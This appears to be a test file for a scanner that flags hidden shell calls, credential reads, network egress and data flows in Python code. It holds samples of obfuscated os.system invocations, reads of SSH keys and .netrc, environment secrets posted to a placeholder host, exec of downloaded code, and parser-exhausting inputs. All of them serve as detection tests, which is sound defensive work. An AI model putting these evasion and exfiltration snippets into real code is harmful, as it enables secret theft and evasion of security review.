import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Fact } from '../../../scanner/fact/fact.ts';
import type { TaintSource } from '../../../scanner/fact/source.ts';
import { Steps, StepsUsedUp } from '../../../scanner/fact/steps.ts';
import { solveFlows } from '../../../scanner/flow/flow.ts';
import { analysePython } from '../../../scanner/languages/python/python.ts';
import { isWhole } from '../../sample.ts';

function unread(...texts: readonly string[]): readonly string[] {
  const sources = texts.map((text, at): TaintSource => {
    const path = `${at}.py`;
    return { path, file: path, language: 'python', text, context: 'code', depth: 0 };
  });
  return analysePython(sources, { files: new Set(), steps: new Steps() }).unanalysed.map(
    ({ span }) => span.path,
  );
}

function analyse(
  files: string | Readonly<Record<string, string>>,
  steps = new Steps(),
): { facts: readonly Fact[]; programs: readonly string[] } {
  const texts = typeof files === 'string' ? { 'a.py': files } : files;
  const sources = Object.entries(texts).map(
    ([path, text]): TaintSource => ({
      path,
      file: path,
      language: 'python',
      text,
      context: 'code',
      depth: 0,
    }),
  );
  const { facts, graph, embedded } = analysePython(sources, {
    files: new Set(Object.keys(texts)),
    steps,
  });
  return {
    facts: [...facts, ...(graph === undefined ? [] : solveFlows(graph, steps).flows)],
    programs: embedded.map((one) => `${one.language} ${one.text}`),
  };
}

/** Capabilities, programs handed to the shell, and traits, as short lines. */
function seen(files: string | Readonly<Record<string, string>>): string[] {
  const { facts, programs } = analyse(files);
  const lines = facts.flatMap((fact) => {
    if (fact.kind === 'trait') return [`trait ${fact.trait}`];
    if (fact.kind === 'flow') {
      const to = fact.sink.capability?.kind === 'egress' ? ` ${fact.sink.capability.url}` : '';
      return [
        `flow ${fact.source.what} ${fact.source.name} -> ${fact.sink.what}${to}${fact.encoded ? ' encoded' : ''}`,
      ];
    }
    if (fact.kind !== 'capability') return [];
    const one = fact.capability;
    if (one.kind === 'egress') return [`egress ${one.methods} ${one.url}`];
    if (one.kind === 'mount') return [`${one.mode} ${one.path}`];
    return [`${one.kind} ${one.kind === 'exec' ? one.program : one.name}`];
  });
  return [...lines, ...programs];
}

describe('os.system is seen however it is reached', () => {
  it.each([
    ['import os\nos.system("id")', 'shell id'],
    ['import os as o\no.system("id")', 'shell id'],
    ['from os import system as s\ns("id")', 'shell id'],
    ['from os import(system)\nsystem("id")', 'shell id'],
    ['from os import (\n  getcwd,\n  system as s,\n)\ns("id")', 'shell id'],
    ['from os import *\nsystem("id")', 'shell id'],
    ['import os\nrun = os.system\nrun("id")', 'shell id'],
    ['import os\ngetattr(os, "sys" + "tem")("id")', 'shell id'],
    ['import os\ngetattr(os, "metsys"[::-1])("id")', 'shell id'],
    ['import os\ngetattr(os, "".join(["sys", "tem"]))("id")', 'shell id'],
    ['import os\ngetattr(os, chr(115) + "ystem")("id")', 'shell id'],
    ['import os\nx = "tem"\ngetattr(os, f"sys{x}")("id")', 'shell id'],
    ['__import__("os").system("id")', 'shell id'],
    ['import importlib\nimportlib.import_module("o" + "s").system("id")', 'shell id'],
    ['import sys\nsys.modules["os"].system("id")', 'shell id'],
    ['import os\nos.__dict__["system"]("id")', 'shell id'],
    ['import os\nvars(os)["system"]("id")', 'shell id'],
    ['import base64\n__import__(base64.b64decode("b3M=").decode()).system("id")', 'shell id'],
    ['import codecs\n__import__(codecs.decode("bf", "rot13")).system("id")', 'shell id'],
    ['𝓲𝓶𝓹𝓸𝓻𝓽 = 0\nimport os\n𝓸𝓼.system("id")', 'shell id'],
    ['import os\nlist(map(os.system, ["id"]))', 'shell id'],
    ['import os\nregister(os.system)', 'trait escape'],
    ['import os\ngetattr(os, name)("id")', 'trait escape'],
    ['__import__(name)', 'trait dynamic-import'],
    ['globals()["ev" + "al"]("1 + 1")', 'python 1 + 1'],
    ['__builtins__.__dict__["exec"]("x = 1")', 'python x = 1'],
    ['import subprocess\nsubprocess.run(["ls", "-l"])', 'shell ls -l'],
    ['import asyncio\nasyncio.create_subprocess_exec("ls", "-l")', 'shell ls -l'],
    ['import os, pty\npty.spawn("/bin/sh")', 'shell /bin/sh'],
    ['class A:\n    def go(self):\n        import os\n        os.system("id")', 'shell id'],
  ])('%j', (code, expected) => {
    expect(seen(code)).toContain(expected);
  });
});

describe('an archive', () => {
  it.each([
    ['import io, zipfile\nb = io.BytesIO()\nz = zipfile.ZipFile(b, "w")', []],
    ['import io, tarfile\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode="w")', []],
    ['import gzip, io\nb = io.BytesIO()\ng = gzip.GzipFile(fileobj=b, mode="wb")', []],
    ['import zipfile\nz = zipfile.ZipFile("/data/a.zip", "w")', ['rw /data/a.zip']],
    [
      'import io, tarfile\nb = io.BytesIO()\nt = tarfile.open("/data/a.tar", "w", fileobj=b)',
      ['rw /data/a.tar'],
    ],
    ['import sys, zipfile\nz = zipfile.ZipFile(sys.argv[1], "w")', ['rw *']],
  ])('needs a mount unless it is in memory: %j', (code, expected) => {
    expect(seen(code).filter((line) => /^r[ow] /.test(line))).toEqual(expected);
  });
});

describe('what a module uses', () => {
  it.each([
    ['import os\nos.environ["A_KEY"]', 'env A_KEY'],
    ['import os\nos.environ.get("A_" + "KEY")', 'env A_KEY'],
    ['from os import getenv as g\ng("A_KEY")', 'env A_KEY'],
    ['import os\nos.environ[name]', 'env *'],
    ['import os\nprint(dict(os.environ))', 'env *'],
    ['import requests\nrequests.get("https://a.example/x")', 'egress GET https://a.example/x'],
    [
      'import requests as r\ns = r.Session()\ns.post("https://a.example/x")',
      'egress POST https://a.example/x',
    ],
    [
      'import httpx\nwith httpx.Client() as c:\n    c.put("https://a.example/x")',
      'egress PUT https://a.example/x',
    ],
    [
      'from urllib.request import urlopen\nurlopen("https://a.example/x", data=b"1")',
      'egress POST https://a.example/x',
    ],
    [
      'import http.client\nhttp.client.HTTPSConnection("a.example")',
      'egress * https://a.example/*',
    ],
    [
      'import requests\nBASE = "https://a.example/v1"\ndef get(path):\n    return requests.get(f"{BASE}/{path}")',
      'egress GET https://a.example/v1/*',
    ],
    [
      'import requests\ndef get(url):\n    requests.get(url)\nget("https://a.example/")',
      'egress GET https://a.example/',
    ],
    ['import requests\nrequests.get(url)', 'egress GET https://*/*'],
    [
      'import socket\ns = socket.socket()\ns.connect(("a.example", 99))',
      'egress * tcp://a.example:99/*',
    ],
    ['open("/etc/hosts")', 'ro /etc/hosts'],
    ['open("/reports/a.md", "w")', 'rw /reports/a.md'],
    ['import os\nopen(os.path.join(os.path.expanduser("~"), ".netrc"))', 'ro ~/.netrc'],
    ['from pathlib import Path\n(Path.home() / ".ssh" / "id_rsa").read_text()', 'ro ~/.ssh/id_rsa'],
    [
      'from pathlib import Path\nPath(__file__).parent.joinpath("data.json").read_text()',
      'ro /skills/@self/data.json',
    ],
    ['import shutil\nshutil.rmtree("/data")', 'rw /data'],
  ])('%j', (code, expected) => {
    expect(seen(code)).toContain(expected);
  });
});

describe('what flows', () => {
  it.each<[string, string | Record<string, string>, string]>([
    [
      'through a variable',
      'import os, requests\nk = os.environ["K"]\nrequests.post("https://a.example/", data={"k": k})',
      'flow env K -> network https://a.example/',
    ],
    [
      'through an encoder',
      'import os, base64, requests\nb = base64.b64encode(os.environ["K"].encode())\nrequests.post("https://a.example/", data=b)',
      'flow env K -> network https://a.example/ encoded',
    ],
    [
      'through a loop and a list',
      'import os, requests\nfound = []\nfor n, v in os.environ.items():\n    found.append(v)\nrequests.post("https://a.example/", json=found)',
      'flow whole-env * -> network https://a.example/',
    ],
    [
      'through another file',
      {
        'a.py': 'import os\nfrom b import send\nsend(os.environ["K"])',
        'b.py': 'import requests\ndef send(v):\n    requests.post("https://a.example/", data=v)\n',
      },
      'flow env K -> network https://a.example/',
    ],
    [
      'through an object',
      'import os, requests\nclass A:\n    def __init__(self):\n        self.k = os.environ["K"]\n    def go(self):\n        requests.post("https://a.example/", data=self.k)',
      'flow env K -> network https://a.example/',
    ],
    [
      'through a method of another file',
      {
        'a.py':
          'import requests\nfrom b import Box\nbox = Box()\nrequests.post("https://a.example/", data=box.take())',
        'b.py': 'class Box:\n    def take(self):\n        return open("/data/x").read()\n',
      },
      'flow file /data/x -> network https://a.example/',
    ],
    [
      'into a program',
      'import os, subprocess\nsubprocess.run(["curl", "-d", os.environ["K"], "https://a.example/"])',
      'flow env K -> exec',
    ],
    [
      'into code',
      'import requests\nexec(requests.get("https://a.example/").text)',
      'flow network https://a.example/ -> exec',
    ],
  ])('%s', (_, code, expected) => {
    expect(seen(code)).toContain(expected);
  });

  it.each([
    [
      'a hash',
      'import hashlib, os, requests\nrequests.get("https://a.example/" + hashlib.sha256(os.environ["K"].encode()).hexdigest())',
    ],
    [
      'a length',
      'import os, requests\nrequests.get("https://a.example/", params={"n": len(os.environ["K"])})',
    ],
    [
      'another variable',
      'import os, requests\nk = os.environ["K"]\nrequests.get("https://a.example/", params={"n": 1})',
    ],
  ])('%s carries nothing', (_, code) => {
    expect(seen(code).filter((line) => line.startsWith('flow env'))).toEqual([]);
  });
});

describe('what is honest stays quiet', () => {
  it.each([
    'model.eval()\ndf.query("a > 1")\ncursor.execute("select 1")',
    'import re\nre.compile("x").match("x")',
    'env = {}\nenv["A"] = 1\nvalue = env["A"]',
    'class A:\n    def exec(self):\n        return 1\nA().exec()',
    'import socket\nsocket.gethostname()',
  ])('%j', (code) => {
    expect(seen(code)).toEqual([]);
  });
});

describe('a hostile text is read, or given up within its steps', () => {
  const doublings = isWhole ? 40 : 28;
  const functions = Array.from(
    { length: 2_000 },
    (_, i) => `def f${i}(x):\n  return f${(i + 1) % 2_000}(x) + f${(i * 3 + 1) % 2_000}(x)`,
  );
  it.each<[string, string]>([
    ['calls within calls', 'f('.repeat(50_000)],
    ['brackets', `x = ${'['.repeat(50_000)}${']'.repeat(50_000)}`],
    ['a sum of many terms', `x = ${'"a" + '.repeat(50_000)}"a"`],
    ['members of members', `x = a${'.b'.repeat(50_000)}`],
    ['a list that grows', `x = []\n${'x = x + [1]\n'.repeat(5_000)}`],
    [
      'a dictionary that doubles',
      `x = {}\n${'x = {"a": x, "b": x}\n'.repeat(doublings)}print(x)\n`,
    ],
    [
      'a dictionary that goes on',
      `x = {"a": 1}\n${'x = {**x, "a": x, "b": x}\n'.repeat(doublings)}`,
    ],
    ['a list that doubles', `x = []\n${'x = [x, x]\n'.repeat(40)}print(x == x)\n`],
    [
      'an entry that doubles',
      `x = {}\n${'y = {}\ny["a"] = x\ny["b"] = x\nx = y\n'.repeat(doublings)}`,
    ],
    ['a text that doubles', `x = "a"\n${'x = x + x\n'.repeat(200)}exec(x)`],
    ['an endless loop', 'x = ""\nwhile True:\n  x += chr(65 ^ 1)\nexec(x)'],
    ['a power of powers', 'x = 9 ** 9 ** 9\ny = (9 ** 4000) ** 4000\nexec(str(y))'],
    ['functions that call each other', `${functions.join('\n')}\nf0("a")`],
    ['garbage', '$%&\u00a7 )( = '.repeat(isWhole ? 20_000 : 5_000)],
  ])('%s', (_, text) => {
    try {
      analyse(text, new Steps(isWhole ? 20_000_000 : 1_000_000));
    } catch (cause) {
      expect(cause).toBeInstanceOf(StepsUsedUp);
    }
  });
});

describe('what is valid is read whole', { timeout: 120_000 }, () => {
  const script =
    '"""Reads."""\n\nimport json\nimport os\n\n\ndef read(path):\n    with open(path) as file:\n        return json.load(file)\n\n\n';
  const parts = [...'https://a.example/x', ...'-'.repeat(700)].map(
    (one) => `chr(${one.charCodeAt(0)})`,
  );
  it.each<[string, string]>([
    [
      'a script of half a megabyte',
      `${script}PATHS = ["a", "b"]\nfor path in PATHS:\n    read(path)\n\n\n`.repeat(
        isWhole ? 3_500 : 500,
      ),
    ],
    [
      'a text of 1,500 parts',
      `x = ${Array.from({ length: 1_500 }, (_, at) => `"part ${at}"`).join(' + ')}\n`,
    ],
    ['a generator that gives nothing', 'def f():\n    yield\n    x = yield\n    g((yield))\n'],
    [
      'patterns of classes',
      'match a:\n    case str() | int():\n        b\n    case [str(), Foo(x=dict( ))]:\n        c\n',
    ],
    [
      'several names after `as`',
      'with f() as (a, b), g() as [c, (d, *e)]:\n    h\nwith f() as x.y, g() as z[0]:\n    h\n',
    ],
    [
      'what a `with` enters, in parentheses',
      'with (\n    f("(", g["a"]) as a,  # a first\n    h() as (b, c),\n):\n    d\nasync def e():\n    async with (f() as g, h() as i) :\n        j\n',
    ],
    [
      'stars in comprehensions',
      'x = [a for a, *_ in y]\nz = {a: b for *a, b in y}\nf(a for a, *b in y)\n',
    ],
    [
      'numbers that end with a dot',
      'x = 10.**2 + 1./y - (2.*z) % 3.-4.\ny = 1.<2. or 3.==4.; z = 5.\n',
    ],
    ['a host of 700 parts', `import requests\nrequests.get(${parts.join(' + ')})\n`],
  ])('%s', (_, text) => {
    expect(unread(text)).toEqual([]);
  });

  it.each<[string, string]>([
    ['a call after `as`', 'with f() as x[g()]:\n    h\n'],
    ['a pattern that is not closed', 'match a:\n    case str(:\n        b\n'],
    ['a sign without a name', 'x = [a for a, % in y]\n'],
    ['a comment with a quote in what is entered', "with (\n    f() as a,  # it's\n):\n    b\n"],
    [
      'a comment beside fields of a text',
      'with (\n    f(f"{x["#"]}", g()) as a,  # b\n):\n    c\n',
    ],
    ['a long text in what is entered', "with (\n    f('''a\nb''') as a,\n):\n    b\n"],
  ])('%s is not', (_, text) => {
    expect(unread(text)).toEqual(['0.py']);
  });

  it('and what a `with` enters in parentheses is followed', () => {
    const text =
      'import os\nwith (\n    open("a") as a,  # first\n    os.popen("id") as b,\n):\n    os.system("ls")\n';
    expect(seen(text)).toEqual(expect.arrayContaining(['shell id', 'shell ls']));
  });

  // The comment ends the text of the function for Python, and `x` is called.
  it('and no comment that is blanked hides code', () => {
    const text =
      'import os\ndef f():\n    """\n    with (a as b # """\n    os.system("id")\n    )\n';
    expect(unread(text)).toEqual(['0.py']);
  });

  it('and 700 parts are one text', () => {
    expect(seen(`import requests\nrequests.get(${parts.join(' + ')})\n`)).toContain(
      `egress GET https://a.example/x${'-'.repeat(700)}`,
    );
  });

  it('and garbage in one file leaves the others as they are', () => {
    const files = {
      'a.py': '$%&\u00a7 )( = '.repeat(isWhole ? 60_000 : 5_000),
      'b.py': 'import os\nos.system("id")\n',
    };
    expect(seen(files)).toContain('shell id');
    expect(unread(...Object.values(files))).toEqual(['0.py']);
  });
});

it('gives facts or gives up on any text, within its steps', () => {
  const pieces = fc.constantFrom(
    'def f(x):\n  ',
    'return f(x)\n',
    'x = x + x\n',
    'import os\n',
    'getattr(os, ',
    '"a"',
    '(',
    ')',
    '[',
    ']',
    'f"{',
    '}"',
    'lambda: ',
    'class A:\n  ',
    'self.x = ',
    '\n',
    'for x in x:\n  ',
    '**',
    ' = ',
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
      try {
        analyse(parts.join(''), new Steps(100_000));
      } catch (cause) {
        expect(cause).toBeInstanceOf(StepsUsedUp);
      }
    }),
    { numRuns: 200 },
  );
});
